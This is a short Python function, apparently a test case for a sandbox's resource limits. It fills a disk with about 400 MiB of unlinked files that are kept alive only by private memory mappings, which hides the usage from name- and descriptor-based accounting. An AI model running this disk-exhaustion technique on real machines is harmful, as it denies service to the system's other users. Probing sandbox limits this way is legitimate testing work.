# Fills the disk with files that have neither name nor descriptor, held by a page of memory each.
def attack(arena):
    import mmap, time
    held = []
    for number in range(200):
        file = os.open("f", os.O_CREAT | os.O_RDWR)
        os.unlink("f")
        os.write(file, b"x" * (2 << 20))
        # Private and closed: nothing but the mapping knows the file.
        held.append(libc.mmap(None, ctypes.c_long(4096), 1, 2, file, ctypes.c_long(0)))
        os.close(file)
        time.sleep(0.005)
    time.sleep(1)
    return "worked: 400 MiB"
